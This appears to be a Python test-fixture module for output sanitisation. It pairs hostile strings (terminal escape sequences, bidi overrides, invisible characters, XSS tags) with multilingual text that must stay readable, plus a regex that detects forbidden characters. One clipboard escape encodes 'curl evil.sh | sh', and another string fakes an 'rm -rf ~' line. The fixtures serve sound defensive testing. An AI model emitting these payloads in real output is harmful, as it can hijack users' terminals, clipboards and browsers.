"""Texts that attack the place where they are shown, and ordinary texts that must stay readable."""

from __future__ import annotations

import re

ESC = "\x1b"
HOSTILE = {
    "clipboard": f"a{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b",
    "cursor": f"a{ESC}[2A{ESC}[2Kb",
    "screen": f"a{ESC}[2J{ESC}[Hb",
    "color": f"a{ESC}[8mb{ESC}[0m",
    "title": f"a{ESC}]0;pwned{ESC}\\b",
    "link": f"a{ESC}]8;;http://evil.example{ESC}\\b{ESC}]8;;{ESC}\\",
    "device control": f"a{ESC}P+q544e{ESC}\\b",
    "C1": "a\x9b2Jb\x9d0;pwned\x9cb",
    "override": "a\u202egpj.exe\u202cb",
    "isolate": "a\u2067b\u2069c\u2066d\u2069",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "a\u200bb\u2060c\ufeffd",
    "joiners": "a\u200db\u200cc",
    "soft hyphen": "pass\u00adword",
    "carriage return": "refused\rpassed",
    "backspace": "refused\b\b\b\b\b\b\bpassed",
    "line break": "a\nerror: b\n  -> rm -rf ~",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "NUL": "a\x00b",
    "delete": "a\x7fb",
    "closing tag": "[/nope]",
    "markup": "[bold]a[/bold] [link=http://evil.example]b[/link] [urgent] bug",
    "emoji code": ":smile: :warning:",
    "cell": "a|b|c",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "Markdown": "[a](http://evil.example) ![b](http://evil.example/x.png) `c` **d** # e",
    "bare address": "http://evil.example www.evil.example a@evil.example",
    "mention": "<!channel> <@U123> <http://evil.example|click> &",
    "quotes": "a\"b'c\\",
    "million": "A" * 1_000_000,
    "lone surrogate": "a\ud800b\udfffc",
    "tags": "good" + "".join(chr(0xE0000 + ord(letter)) for letter in "evil"),
    "selectors": "a\ufe0f\ufe0e\U000e0101b",
    "fillers": "a\u3164b\u115fc\uffa0d\u034f",
    "marks": "Z" + "\u0336\u0489\u0301" * 40,
    "private": "a\ue000b\U000f0000c",
    "not characters": "a\ufffeb\ufdd0c\U0001ffffd",
}
READABLE = {
    "Chinese": "房间很干净，服务员也很热情。\u3000全角空格",
    "Japanese": "葛\U000e0100城市のカフェ",
    "Arabic": "الغرفة نظيفة والخدمة ممتازة ١٢٣",
    "Persian": "می\u200cخواهم این کتاب\u200cها را",
    "Hebrew": "הַחֶדֶר הָיָה נָקִי",
    "Hindi": "कमरा बहुत साफ था, क्\u200dष और र्\u200cय",
    "Malayalam": "അവന്\u200d നല്ല മുറി",
    "Thai": "ห้องสะอาดมาก ที่นี่ดีจริงๆ",
    "Tibetan": "བཀྲ་ཤིས་བདེ་ལེགས",
    "Korean": "방이 아주 깨끗했어요",
    "Vietnamese": "Phòng rất sạch sẽ, tiện nghi",
    "German": "schöne Größe – „gut“ 5\u00a0€ 10\u202f%",
    "emoji": "👍🏽 👩\u200d💻 👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 🏴\u200d☠\ufe0f 1\ufe0f\u20e3 🇨🇳 ©\ufe0f",
    "flag": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
}
# Control, format, surrogate and separator characters that no output may hold, whatever is allowed
# within a word of some script.
RAW = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069"
    "\u206a-\u206f\ufeff\u034f\u115f\u1160\u3164\uffa0\ufff9-\ufffb\ud800-\udfff\ue000-\uf8ff"
    "\ufdd0-\ufdef\ufffe\uffff\U000e0000-\U000e007f\U000f0000-\U0010ffff]"
)


def raw_in(shown: str) -> re.Match[str] | None:
    """Return the first character that must not be shown; tags within the flag are no data."""
    return RAW.search(shown.replace(READABLE["flag"], ""))
